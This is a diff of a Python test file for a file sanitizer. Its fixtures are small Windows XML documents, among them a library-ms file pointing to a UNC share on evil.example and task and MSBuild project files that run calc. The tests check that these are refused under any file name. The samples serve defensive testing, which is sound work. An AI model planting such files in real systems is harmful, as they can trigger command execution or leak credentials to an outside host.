@@ -50,7 +50,7 @@ PROGRAMS = {
     "a.library-ms": '<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><url>\\\\evil.example\\x</url></libraryDescription>',
     "a.searchConnector-ms": '<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"/>',
     "a.contact": '<c:contact xmlns:c="http://schemas.microsoft.com/Contact"><c:Value>file:///c:/calc.exe</c:Value></c:contact>',
-    "a.application": '<asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><deployment/></asmv1:assembly>',
+    "a.application": '<a:assembly xmlns="urn:schemas-microsoft-com:asm.v2" xmlns:a="urn:schemas-microsoft-com:asm.v1"><deployment/></a:assembly>',
     "a.task": '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Exec><Command>calc</Command></Exec></Task>',
     "a.vcxproj": '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Target><Exec Command="calc"/></Target></Project>',
 }
@@ -106,7 +106,8 @@ def test_a_document_that_acts_by_its_namespace_is_refused(tmp_path):
     for name, text in PROGRAMS.items():
         for called in [name, "photo.jpg", "letter.txt", "data.xml"]:
             assert sanitized(tmp_path, called, text)[1] is None, (name, called)
-    assert sanitized(tmp_path, "data.xml", "<project><name>a</name></project>")[1] is not None
+    innocent = ["<project><name>a</name></project>", '<assembly xmlns="urn:schemas-microsoft-com:asm.v1"><description/></assembly>']
+    assert all(sanitized(tmp_path, "data.xml", text)[1] is not None for text in innocent)
 
 
 @pytest.mark.parametrize("other", ["photo.jpg", "letter.txt", "table.csv", "page.md", "noending", "x.docx", "a.unheard"])
